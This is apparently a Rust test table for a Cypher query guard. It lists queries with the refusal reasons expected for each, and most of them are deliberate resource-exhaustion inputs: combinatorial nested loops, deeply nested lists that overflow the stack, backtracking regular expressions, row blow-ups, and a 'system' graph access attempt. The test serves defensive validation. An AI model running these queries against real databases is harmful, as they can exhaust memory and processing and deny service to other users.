        "RETURN [x IN range(1, 3000) WHERE any(y IN range(1, 900) WHERE x = -y)] AS a0, [x IN range(1, 3000) WHERE any(y IN range(1, 900) WHERE x = -y)] AS a1, [x IN range(1, 3000) WHERE any(y IN range(1, 900) WHERE x = -y)] AS a2, [x IN range(1, 3000) WHERE any(y IN range(1, 900) WHERE x = -y)] AS a3, [x IN range(1, 3000) WHERE any(y IN range(1, 900) WHERE x = -y)] AS a4, [x IN range(1, 3000) WHERE any(y IN range(1, 900) WHERE x = -y)] AS a5, [x IN range(1, 3000) WHERE any(y IN range(1, 900) WHERE x = -y)] AS a6, [x IN range(1, 3000) WHERE any(y IN range(1, 900) WHERE x = -y)] AS a7",
        Refused("too many steps"),
    ),
    (
        "a search in a list in a loop",
        "RETURN [x IN range(1, 10000) WHERE x IN [y IN range(1, 10000) | -y]]",
        Refused("too many steps"),
    ),
    (
        "thirty-one relationships",
        "MATCH (a)--()--()--()--()--()--()--()--()--()--()--()--()--()--()--()--()--()--()--()--()--()--()--()--()--()--()--()--()--()--()--() RETURN count(*)",
        Refused("relationships in one pattern"),
    ),
    (
        "many patterns",
        "MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() MATCH (a)--() RETURN count(*)",
        Refused("relationships in one pattern"),
    ),
    (
        "any path",
        "MATCH p = ANY (a:Movie)-[]-+(b:Person) RETURN count(p)",
        Refused("shortestPath"),
    ),
    (
        "a shortest path from nowhere",
        "RETURN length(shortestPath((a)-[*]-(b)))",
        Refused("ends that no MATCH bound"),
    ),
    (
        "a shortest path from what may be anything",
        "UNWIND [1] AS a MATCH (b:Movie) RETURN shortestPath((a)-[*]-(b))",
        Refused("ends that no MATCH bound"),
    ),
    // A collected list is looped over in one expression, which no time-out ends.
    (
        "a string out of what many rows collect",
        "UNWIND range(1, 1000) AS i UNWIND range(1, 1000) AS j WITH collect(toString(i) + toString(j)) AS l RETURN size(reduce(s = '', x IN l | s + x))",
        Refused("too big"),
    ),
    (
        "loops over what many rows collect",
        "UNWIND range(1, 10000) AS i UNWIND range(1, 100) AS j WITH collect(i * j) AS l RETURN size([x IN l WHERE any(y IN l WHERE y = -1)])",
        Refused("loops in loops"),
    ),
    (
        "lists that are collected out of lists",
        "WITH 'xxxxxxxxxx' AS s UNWIND range(1, 10000) AS i WITH collect(s) AS a UNWIND a AS b UNWIND a AS c WITH collect(b + c) AS d RETURN size(d)",
        Refused("too many rows hold copies of long lists"),
    ),
    (
        "a list in parts, unwound twice",
        "UNWIND range(1, 10000) AS i WITH i % 2 AS k, collect('xxxxxxxxxx') AS l UNWIND l AS a UNWIND l AS b RETURN size(collect(a + b))",
        Refused("too many rows hold copies of long lists"),
    ),
    (
        "a long text beside the neighbours of neighbours",
        "WITH replace('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', 'a', 'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb') AS s WITH replace(s, 'b', 'cccccccccccccccccccc') AS t MATCH (a:Movie)--(b) MATCH (a)--(c) MATCH (a)--(d) MATCH (a)--(e) RETURN size(t), count(*)",
        Refused("too many rows hold copies of long lists"),
    ),
    (
        "a long text beside the neighbours of what a property selects",
        "WITH replace('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', 'a', 'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb') AS s WITH replace(s, 'b', 'cccccccccccccccccccc') AS t MATCH (m:Movie {title: 'a'})--(p) MATCH (p)--(x) MATCH (p)--(y) RETURN size(t), count(*)",
        Refused("too many rows hold copies of long lists"),
    ),
    (
        "a long list beside a path of many nodes",
        "WITH range(1, 10000) AS l MATCH (a:Movie)--(b)--(c)--(d)--(e) RETURN size(l), count(*)",
        Refused("too many rows hold copies of long lists"),
    ),
    // One node may have most of the neighbours.
    (
        "a long list beside the pairs of a node's neighbours",
        "WITH range(1, 1000) AS l MATCH (m:Movie)<-[:ACTED_IN]-(p:Person) MATCH (m)<-[:ACTED_IN]-(q:Person) RETURN size(l), count(*)",
        Refused("too many rows hold copies of long lists"),
    ),
    (
        "a long list beside the pairs of a node's neighbours in one path",
        "WITH range(1, 1000) AS l MATCH (p:Person)-[:ACTED_IN]->(m:Movie)<-[:ACTED_IN]-(q:Person) RETURN size(l), count(*)",
        Refused("too many rows hold copies of long lists"),
    ),
    (
        "a long list beside the pairs of a node's neighbours in a subquery",
        "WITH range(1, 1000) AS l MATCH (m:Movie) CALL (m) { MATCH (m)<-[:ACTED_IN]-(p) MATCH (m)<-[:ACTED_IN]-(q) RETURN p } RETURN size(l), count(*)",
        Refused("too many rows hold copies of long lists"),
    ),
    (
        "a long list beside all pairs of nodes",
        "WITH range(1, 2000) AS l MATCH (a:Person), (b:Person) RETURN size(l), count(*)",
        Refused("too many rows hold copies of long lists"),
    ),
    (
        "what many subqueries give",
        "UNWIND range(1, 1000) AS i CALL { UNWIND range(1, 1000) AS j RETURN j } RETURN size(collect(toString(j) + 'xxxxxxxxxx'))",
        Refused("too big"),
    ),
    (
        "COLLECT of many rows",
        "RETURN size(reduce(s = '', x IN COLLECT { UNWIND range(1, 10000) AS a UNWIND range(1, 100) AS b RETURN a } | s + x))",
        Refused("too many rows"),
    ),
    // A value that is nested deep is walked recursively, until the stack is full.
    (
        "a list nested by reduce",
        "RETURN size(reduce(s = [1], x IN range(1, 2000) | [[[[[[[[[[[[[[[[[[[[[[[[[s]]]]]]]]]]]]]]]]]]]]]]]]])) AS x",
        Refused("nested in each other"),
    ),
    (
        "a list nested by reduce, a level at a time",
        "RETURN reduce(s = [1], x IN range(1, 10000) | [s]) AS x",
        Refused("nested in each other"),
    ),
    (
        "a map nested by reduce",
        "RETURN reduce(s = {a: 1}, x IN range(1, 10000) | {a: s}) AS x",
        Refused("nested in each other"),
    ),
    (
        "a list nested by reduce in one case",
        "RETURN reduce(s = [1], x IN range(1, 10000) | CASE WHEN x > 1 THEN coalesce([s], s) ELSE s END) AS x",
        Refused("nested in each other"),
    ),
    (
        "a list nested by WITH",
        "WITH [1] AS s WITH [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[s]]]]]]]]]]]]]]]]]]]]]]]]]]]]]] AS s WITH [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[s]]]]]]]]]]]]]]]]]]]]]]]]]]]]]] AS s WITH [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[s]]]]]]]]]]]]]]]]]]]]]]]]]]]]]] AS s WITH [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[s]]]]]]]]]]]]]]]]]]]]]]]]]]]]]] AS s RETURN size(s)",
        Refused("nested in each other"),
    ),
    (
        "a list nested by COLLECT",
        "WITH [1] AS s WITH COLLECT { RETURN [[[[[[[[[[[[[[[[[[[[[[[[[[[[[s]]]]]]]]]]]]]]]]]]]]]]]]]]]]] AS a } AS s WITH COLLECT { RETURN [[[[[[[[[[[[[[[[[[[[[[[[[[[[[s]]]]]]]]]]]]]]]]]]]]]]]]]]]]] AS a } AS s WITH COLLECT { RETURN [[[[[[[[[[[[[[[[[[[[[[[[[[[[[s]]]]]]]]]]]]]]]]]]]]]]]]]]]]] AS a } AS s WITH COLLECT { RETURN [[[[[[[[[[[[[[[[[[[[[[[[[[[[[s]]]]]]]]]]]]]]]]]]]]]]]]]]]]] AS a } AS s RETURN size(s)",
        Refused("nested in each other"),
    ),
    // No engine ends a single expression at its time-out, and the embedded one copies all variables for each item.
    (
        "loops beside long lists",
        "WITH [x IN range(1, 10000) | toString(x)] AS l, range(1, 1500) AS r WITH r, l, l AS m, l AS n, l AS o, l AS p RETURN size([a IN r WHERE any(b IN r WHERE a = -b)]) AS s, size(l) + size(m) + size(n) + size(o) + size(p) AS t",
        Refused("too many steps"),
    ),
    (
        "loops over what a pattern gives",
        "MATCH (a:Person) WITH collect(a.name) AS l RETURN size([x IN l WHERE any(y IN l WHERE y = x + 'z')]) AS s",
        Refused("too many steps"),
    ),
    (
        "a loop beside what reduce gathers",
        "RETURN size(reduce(s = [], x IN range(1, 1000) | CASE WHEN any(y IN range(1, 1000) WHERE y = -x) THEN s ELSE s + [x] END)) AS s",
        Refused("too many steps"),
    ),
    // What is taken out of a list or a map may be a long list, too.
    (
        "loops over a list out of a list",
        "WITH [range(1, 1000)] AS l RETURN any(a IN l[0] WHERE any(b IN l[0] WHERE any(c IN l[0] WHERE any(d IN l[0] WHERE a + d = -1)))) AS c",
        Refused("too many steps"),
    ),
    (
        "loops over a list out of lists in lists",
        "WITH [[[range(1, 1000)]]] AS l RETURN any(a IN l[0][0][0] WHERE any(b IN l[0][0][0] WHERE any(c IN head(head(head(l))) WHERE a + b + c = -1))) AS c",
        Refused("too many steps"),
    ),
    (
        "loops over a list out of a map",
        "WITH {a: range(1, 1000), b: 1} AS m RETURN any(a IN m.a WHERE any(b IN m['a'] WHERE any(c IN m.a WHERE a + b + c = -1))) AS c",
        Refused("too many steps"),
    ),
    (
        "loops over the shorter of two lists",
        "WITH CASE WHEN rand() < 1 THEN range(1, 1000) ELSE [toString(range(1, 9000))] END AS l RETURN any(a IN l WHERE any(b IN l WHERE any(c IN l WHERE a + b + c = -1))) AS c",
        Refused("too many steps"),
    ),
    (
        "loops over loop variables",
        "WITH [[[range(1, 1000)]]] AS l RETURN any(a IN l WHERE any(b IN a WHERE any(c IN b WHERE any(d IN c WHERE any(e IN c WHERE any(f IN c WHERE d + e + f = -1)))))) AS c",
        Refused("too many steps"),
    ),
    (
        "loops over the list of a property",
        "MATCH (:Person)-[r:ACTED_IN]->() WITH r.roles AS t RETURN any(a IN t WHERE any(b IN t WHERE any(c IN t WHERE a + b + c = 'x'))) AS c",
        Refused("too many steps"),
    ),
    (
        "loops over the list of a property in brackets",
        "MATCH (n) RETURN any(a IN n['tags'] WHERE any(b IN n['tags'] WHERE any(c IN properties(n)['tags'] WHERE a + b + c = 'x'))) AS c",
        Refused("too many steps"),
    ),
    (
        "loops over a property that was collected",
        "MATCH (n) WITH collect(n.tags) AS l RETURN size([a IN head(l) | [b IN head(l) | [c IN last(l) | 1]]]) AS c",
        Refused("too many steps"),
    ),
    (
        "loops over a property in a map beside others",
        "MATCH (n) WITH {tags: n.tags, x: 1} AS m RETURN size([a IN m.tags WHERE any(b IN m.tags WHERE any(c IN coalesce(m.tags, []) WHERE a + b + c = 'x'))]) AS c",
        Refused("too many steps"),
    ),
    (
        "loops over the nodes of a path",
        "MATCH p = (:Movie)-[*]-() RETURN any(a IN nodes(p) WHERE any(b IN nodes(p) WHERE any(c IN relationships(p) WHERE a = b))) AS c",
        Refused("too many steps"),
    ),
    (
        "loops over what a pattern in brackets gives",
        "MATCH (p:Person) RETURN size([a IN [(p)--(x) | x] WHERE any(b IN [(p)--(x) | x] WHERE any(c IN [(p)--(x) | x] WHERE a <> b))]) AS c",
        Refused("too many steps"),
    ),
    (
        "loops over an accumulator",
        "RETURN reduce(s = range(1, 1000), x IN [1] | size([a IN s WHERE any(b IN s WHERE any(c IN s WHERE a + b + c = -1))])) AS c",
        Refused("too many steps"),
    ),
    (
        "a list of a property's pairs of pairs",
        "MATCH ()-[r:ACTED_IN]->() WITH r.roles AS t RETURN size([a IN t | [b IN t | a + b]]) AS c",
        Refused("too big"),
    ),
    (
        "loops over the characters of a property",
        "MATCH (n:Person) RETURN size([a IN split(n.name, '') WHERE any(b IN split(n.name, '') WHERE any(c IN split(n.name, '') WHERE a + b + c = 'zzz'))]) AS c",
        Refused("too many steps"),
    ),
    (
        "a list of pairs of a property's characters",
        "MATCH (n:Person) RETURN size([a IN split(n.name, '') | [b IN split(n.name, '') | n.name]]) AS c",
        Refused("too many steps"),
    ),
    (
        "a regular expression that goes back in a long text",
        r"MATCH (n:Person) WHERE n.name =~ '.*\\s.*\\s.*Z' RETURN n",
        Refused("regular expression"),
    ),
    (
        "a regular expression that takes everything three times",
        "MATCH (n:Person) WHERE n.name =~ '(?s).*.*.*Z' RETURN n",
        Refused("regular expression"),
    ),
    // The embedded engine copies every value into every row.
    (
        "a long list in many rows",
        "WITH [x IN range(1, 9000) | 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'] AS l UNWIND range(1, 2000) AS a WITH a, l ORDER BY a DESC RETURN sum(size(l)) AS s",
        Refused("too many rows"),
    ),
    (
        "a long list in many rows of a subquery",
        "WITH [x IN range(1, 9000) | 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'] AS l CALL (l) { UNWIND range(1, 2000) AS a WITH a, l ORDER BY a DESC RETURN sum(size(l)) AS s } RETURN s",
        Refused("too many rows"),
    ),
    (
        "a long list in many rows of EXISTS",
        "WITH [x IN range(1, 9000) | 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'] AS l RETURN EXISTS { UNWIND range(1, 2000) AS a WITH a, l ORDER BY a RETURN l } AS s",
        Refused("too many rows"),
    ),
    (
        "a long list in the rows of a subquery",
        "WITH [x IN range(1, 9000) | 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'] AS l CALL { UNWIND range(1, 2000) AS a RETURN a } RETURN sum(size(l)) AS s",
        Refused("too many rows"),
    ),
    (
        "a long list in the rows of a pattern",
        "WITH [x IN range(1, 9000) | 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'] AS l MATCH (m:Movie) RETURN sum(size(l)) AS s",
        Refused("too many rows"),
    ),
    (
        "a long list made in each row",
        "UNWIND range(1, 2000) AS a WITH a, [x IN range(1, 9000) | 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'] AS l ORDER BY a RETURN sum(size(l)) AS s",
        Refused("too many rows"),
    ),
    (
        "a long list made in each group",
        "UNWIND range(1, 2000) AS a WITH a, collect(a) + [x IN range(1, 9000) | 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'] AS l ORDER BY a RETURN sum(size(l)) AS s",
        Refused("too many rows"),
    ),
    (
        "a list in parts in each of its rows",
        "UNWIND range(1, 9000) AS i WITH i % 2 AS k, collect('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx') AS l UNWIND l AS a WITH k, l, a ORDER BY a RETURN sum(size(l)) AS s",
        Refused("too many rows"),
    ),
    (
        "the part of one row in many",
        "UNWIND range(1, 9000) AS i WITH i % 2 AS k, collect('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx') AS l LIMIT 1 UNWIND range(1, 2000) AS a WITH l, a ORDER BY a RETURN sum(size(l)) AS s",
        Refused("too many rows"),
    ),
    (
        "a long list in many columns",
        "WITH [x IN range(1, 9000) | 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'] AS l WITH l AS l0, l AS l1, l AS l2, l AS l3, l AS l4, l AS l5, l AS l6, l AS l7, l AS l8, l AS l9, l AS l10, l AS l11, l AS l12, l AS l13, l AS l14, l AS l15, l AS l16, l AS l17, l AS l18, l AS l19, l AS l20, l AS l21, l AS l22, l AS l23, l AS l24, l AS l25, l AS l26, l AS l27, l AS l28, l AS l29 RETURN size(l1) AS s",
        Refused("too many rows"),
    ),
    // Newer Cypher.
    (
        "a computed label in a condition",
        "MATCH (n) WHERE n:$('Response') RETURN n",
        Refused("computed"),
    ),
    (
        "Cypher 25",
        "CYPHER 25 MATCH (n) FILTER n.name = 'x' RETURN n",
        Refused("CYPHER"),
    ),
    (
        "FILTER",
        "MATCH (n) FILTER n.name = 'x' RETURN n",
        Refused("FILTER"),
    ),
    ("LET", "MATCH (n) LET x = n.name RETURN x", Refused("LET")),
    (
        "NEXT",
        "RETURN 1 AS a NEXT MATCH (n) RETURN n",
        Refused("NEXT"),
    ),
    (
        "a conditional query",
        "CALL { WHEN true THEN { MATCH (n:Response) RETURN n } } RETURN n",
        Refused("WHEN"),
    ),
    (
        "an optional subquery",
        "OPTIONAL CALL (*) { MATCH (n) RETURN n } RETURN n",
        Refused("CALL"),
    ),
    (
        "walks",
        "MATCH REPEATABLE ELEMENTS (a)-[r]->(b) RETURN a",
        Refused("REPEATABLE"),
    ),
    (
        "a search by vector",
        "MATCH (n) SEARCH n IN (VECTOR INDEX x FOR [1.0] LIMIT 3) RETURN n",
        Refused("SEARCH"),
    ),
    (
        "a graph by its name",
        "USE graph.byName('system') MATCH (n) RETURN n",
        Refused("USE"),
    ),
    (
        "a type that is tested",
        "MATCH (n) WHERE n IS :: NODE RETURN n",
        Refused("IS can only"),
    ),
    (
        "an index of memory as a hint",
        "MATCH (n) USING INDEX n:Response(id) WHERE n.id = 'x' RETURN n",
        Refused("hints"),
    ),
    (
        "the ends of a path's relationships",
        "MATCH p = (m:Movie)-[*1..3]-(x) RETURN [r IN relationships(p) | [startNode(r), endNode(r)]] AS s",
        Harmless,
    ),
    (
        "relationships in a list, matched again",
        "MATCH (m:Movie)<-[r]-() WITH r MATCH (a)-[r]->(b) RETURN a, b",
        Harmless,
    ),
    (
        "nodes in a map, matched again",
        "MATCH (m) WITH {n: m} AS l MATCH (y)--(z) WHERE y = l.n RETURN z",
        Harmless,
    ),
    (
        "a condition inside of a quantified path's node",
        "MATCH (a:Movie) ((x WHERE x.output STARTS WITH 'R')--(y)){0,2} (b) RETURN x",
        Harmless,
    ),
];
